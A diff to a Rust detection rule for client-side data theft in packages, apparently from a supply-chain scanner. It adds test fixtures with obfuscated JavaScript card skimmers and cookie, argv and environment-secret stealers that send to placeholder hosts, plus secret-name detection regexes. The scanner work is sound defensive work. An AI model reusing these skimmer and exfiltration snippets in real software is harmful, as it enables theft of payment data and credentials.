@@ -22,7 +22,9 @@ crate::declare_rule! {
     /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
     /// identity there too, or a send hidden in encoded DNS names, else high (a secret-name
     /// pattern tested on the keys of the whole environment is strong: a harvest); secret-named
-    /// environment variables count only three or more at once. Analytics SDKs read their own cookie by name, persist libraries walk
+    /// environment variables count only three or more at once. Selectors for a card number and
+    /// its security code that the file only holds decoded (XOR, base64, char codes) are
+    /// critical with any fixed send: a payment library does not hide which fields it formats. Analytics SDKs read their own cookie by name, persist libraries walk
     /// storage towards an address their caller gives, Electron cookie managers export to a file:
     /// none matches.
     id: "client-data-theft",
@@ -44,6 +46,9 @@ crate::declare_rule! {
         "function grab(form) { const n = form.querySelector('[name=cardnumber]').value; const c = form.querySelector('input[autocomplete=cc-csc]').value; ship({ n, c }) }\nfunction ship(d) { fetch('https://cdn.example.net/m', { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify(d)) }) }\ndocument.addEventListener('submit', (e) => grab(e.target), true)",
         "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
         "function ci() { const env = process.env; const got = {}; for (const k of Object.keys(env)) { if (/TOKEN|SECRET|PASSWORD|_KEY/i.test(k)) got[k] = env[k] } const r = https.request({ host: 'ci-stats.example.org', method: 'POST' }); r.end(JSON.stringify(got)) }\nci()",
+        "var k = [0x11, 0x22], d = function (h) { return h.match(/../g).map(function (x, i) { return String.fromCharCode(parseInt(x, 16) ^ k[i % k.length]) }).join('') }, u = d('665162183e0d790c745a704f614e740d62'), s = null;\nvar open = function () { s = new (window[d('464773717e417a4765')])(u) };\nfunction watch() { document.addEventListener('submit', function () { var t = JSON.stringify({ u: location.href, c: document.cookie }); open(); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
+        "var k = [0x21, 0x42, 0x63], d = function (h) { return h.match(/../g).map(function (x, i) { return String.fromCharCode(parseInt(x, 16) ^ k[i % k.length]) }).join('') }, SEL = d('482c135436384f230e44685e422311451f4f482c135436384f230e44685e4234007c'), U = d('5631101b6d4c496c0659230e512e060e33'), s = null, v = {};\ndocument.addEventListener('input', function (e) { if (e.target.matches(SEL)) v[e.target.name] = e.target.value }, true);\ndocument.addEventListener('submit', function () { s = new WebSocket(U); s.onopen = function () { s.send(JSON.stringify(v)) } }, true)",
+        "function seen(a) { var s = a.join(' '); if (!(/--?(token|password|secret)\\b/i).test(s)) return; var W = typeof WebSocket === 'function' ? WebSocket : null; var ws = new W(['wss:', '', 'h.example', 'x'].join('/')); ws.onopen = function () { ws.send(JSON.stringify({ a: a, h: require('os').hostname() })) } }",
     ],
     pass: [
         "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
@@ -57,6 +62,9 @@ crate::declare_rule! {
         "function pay(form, opts) { const d = { number: form.querySelector('#card-number').value, cvc: form.querySelector('#cvc').value }; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(d) }) }",
         "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
         "function report(opts) { const env = {}; for (const k of Object.keys(process.env)) env[k] = /TOKEN|SECRET|PASSWORD/i.test(k) ? '[redacted]' : process.env[k]; return fetch(opts.endpoint, { method: 'POST', body: JSON.stringify(env) }) }",
+        "var s = null;\nvar open = function (url) { s = new WebSocket(url) };\nfunction watch(opts) { document.addEventListener('submit', function () { var t = JSON.stringify({ c: document.cookie }); open(opts.url); setTimeout(function () { s.send(btoa(t)) }, 50) }, true) }",
+        "var SEL = 'input[name*=card],input[name*=cvc]', U = atob('d3NzOi8vaC5leGFtcGxlL3E='), v = {};\ndocument.addEventListener('input', function (e) { if (e.target.matches(SEL)) e.target.value = e.target.value.replace(/\\D/g, '') }, true);\nfunction status() { var s = new WebSocket(U); s.onopen = function () { s.send('ping') } }",
+        "function login(a, opts) { if ((/--?(token|password)\\b/i).test(a.join(' '))) { const W = typeof WebSocket === 'function' ? WebSocket : null; const ws = new W(opts.url); ws.onopen = () => ws.send(JSON.stringify({ argv: a })) } }",
     ],
 }
 
@@ -277,8 +285,9 @@ fn secret_pattern_uses(text: &str) -> Vec<Src> {
     let words = crate::regex!(
         r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
     );
-    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\.test\(");
-    for c in inline.captures_iter(text).take(8) {
+    // `/…/i.test(s)`, also parenthesised (`(/…/i).test(s)`) and `.exec(s)`.
+    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\)?\s*\.(?:test|exec)\(");
+    for c in inline.captures_iter(text).take(64) {
         let Some(body) = c.get(1) else { continue };
         let kinds: std::collections::HashSet<String> = words
             .find_iter(body.as_str())
@@ -567,10 +576,17 @@ fn check(pkg: &Package, out: &mut Emitter) {
         }
         let Some(js) = &f.js else { continue };
         let srcs = sources(f);
-        if srcs.is_empty() {
+        let hidden_cards = hidden_card_selectors(f);
+        if srcs.is_empty() && hidden_cards.is_none() {
             continue;
         }
         let dests = destinations(f);
+        // A socket opened to a fixed foreign address whose URL the code decodes or builds
+        // (`new (window[d(k)])(d(u))`): what the file sends on a socket goes there.
+        let fixed_socket = js
+            .calls
+            .iter()
+            .any(|c| matches!(c.path.as_str(), "WebSocket" | "EventSource") && folded_foreign(c));
         // Sends whose destination is fixed: a literal in the send's own function, or a folded
         // argument or option of the call.
         let sends: Vec<(u32, Option<(u32, u32)>)> = js
@@ -580,7 +596,8 @@ fn check(pkg: &Package, out: &mut Emitter) {
             .filter_map(|c| {
                 let scope = js.scope_of(c.off);
                 let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
-                (folded_foreign(c) || local).then_some((c.off, scope))
+                let socket = fixed_socket && c.path == "WebSocket.send";
+                (folded_foreign(c) || local || socket).then_some((c.off, scope))
             })
             .collect();
         // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
@@ -670,10 +687,46 @@ fn check(pkg: &Package, out: &mut Emitter) {
                 ));
             }
         }
+        // Selectors for the card number and its security code that the file hides (decoded at
+        // run time) while it sends to a fixed address: a payment library has no reason to hide
+        // which fields it formats.
+        if best
+            .as_ref()
+            .is_none_or(|(s, _, _)| *s < Severity::Critical)
+            && hidden_cards.is_some()
+            && let Some((send_off, _)) = all_sends.first()
+        {
+            best = Some((
+                Severity::Critical,
+                *send_off,
+                "hides selectors for payment card fields (number and security code) in encoded strings and sends to a fixed address".into(),
+            ));
+        }
         if let Some((sev, off, msg)) = best {
             out.hit_sev(sev, pkg, f, off, msg);
         }
     }
+}
+
+/// A string the file decodes at run time (not written in its text) that selects both a payment
+/// card field and its security code by attribute (`input[name*=card],input[name*=cvv]`), in a
+/// file that decodes (`atob`, base64, char codes, XOR).
+fn hidden_card_selectors(f: &FileCtx) -> Option<u32> {
+    let js = f.js.as_ref()?;
+    if js.derived.is_empty()
+        || !crate::mentions!(f.text.as_str(), ["fromCharCode", "atob", "base64"])
+    {
+        return None;
+    }
+    let card = crate::regex!(r"(?i)\[[^\]]{0,40}(?:cc-|card)[^\]]{0,40}\]");
+    let code = crate::regex!(r"(?i)\[[^\]]{0,40}(?:cvv|cvc|csc)[^\]]{0,40}\]");
+    js.derived
+        .iter()
+        .take(4096)
+        .find(|(d, _)| {
+            d.len() <= 4096 && card.is_match(d) && code.is_match(d) && !f.text.contains(d.as_str())
+        })
+        .map(|(_, o)| *o)
 }
 
 #[cfg(test)]
